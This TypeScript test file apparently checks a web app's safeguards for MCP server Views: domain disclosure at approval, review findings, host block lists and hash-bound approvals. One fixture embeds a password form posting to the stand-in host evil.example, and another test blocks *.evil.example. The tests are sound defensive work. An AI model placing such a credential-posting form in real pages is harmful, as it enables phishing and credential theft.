import { testView } from "../fixtures/test-view.ts";
import type { TestTool } from "../fixtures/mcp-server.ts";
import type { Workbench } from "../fixtures/workbench.ts";
import { clause } from "./clause.ts";
import type { Stage } from "./stage.ts";

const READY = testView('show("ready");');

/** The web app with one server that is called `test`, after a person ran its tool `show`. */
async function runShow(stage: Stage, show: Omit<TestTool, "name">, vitrine: object = {}): Promise<Workbench> {
  const server = await stage.serve([{ name: "show", ...show }]);
  const workbench = await stage.webApp({ mcpServers: { test: { url: server.url } }, vitrine });
  await workbench.run("test", "show");
  return workbench;
}

clause(
  "external-domains-warned",
  "who approves a View is shown each domain that it reaches",
  async (stage) => {
    const ui = { csp: { connectDomains: ["https://api.example"], resourceDomains: ["https://cdn.example"] } };
    const workbench = await runShow(stage, { html: READY, ui }, { templates: "ask" });
    await workbench.card("show").getByRole("button", { name: "Review" }).click();
    const reach = workbench.dialog.getByRole("region", { name: "What it may reach" });
    await stage.expect(reach).toContainText("https://api.example");
    await stage.expect(reach).toContainText("https://cdn.example");
    await stage.expect(reach).toContainText("can go to every origin that it may reach");
  },
);

clause("suspicious-warned", "who approves a View is shown what the review found", async (stage) => {
  const html = testView("", { body: '<form action="https://evil.example/"><input type="password"></form>' });
  const workbench = await runShow(stage, { html }, { templates: "ask" });
  await workbench.card("show").getByRole("button", { name: "Review" }).click();
  const findings = workbench.dialog.getByRole("region", { name: "Findings" });
  await stage.expect(findings).toContainText("credential-input");
  await stage.expect(findings).toContainText("form-target");
});

clause("domain-lists", "no View runs that declares a domain which the host blocks", async (stage) => {
  const ui = { csp: { connectDomains: ["https://api.evil.example"] } };
  const workbench = await runShow(
    stage,
    { html: READY, ui },
    { origins: { block: ["https://*.evil.example"] } },
  );
  await stage.expect(workbench.card("show").locator("[data-reason]")).toContainText("https://*.evil.example");
  await stage.expect(workbench.card("show").locator("iframe")).toHaveCount(0);
});

clause(
  "lists-by-hash",
  "an approval is for one hash: what the server changed afterwards does not run",
  async (stage) => {
    const served = { text: "first" };
    const workbench = await runShow(stage, { html: () => testView(`show("${served.text}");`) });
    await stage.expect(workbench.view("show").getByRole("status")).toHaveText("first");
    served.text = "second";
    await workbench.page.reload();
    // Until the page has read what is served now, it rightly runs the version that was approved.
    const waits = "Changed since its approval. It does not run until it is approved again.";
    await stage.expect(workbench.page.getByText(waits)).toBeVisible();
    await workbench.run("test", "show");
    await stage.expect(workbench.card("show")).toContainText(waits);
    await stage.expect(workbench.card("show").locator("iframe")).toHaveCount(0);
  },
);
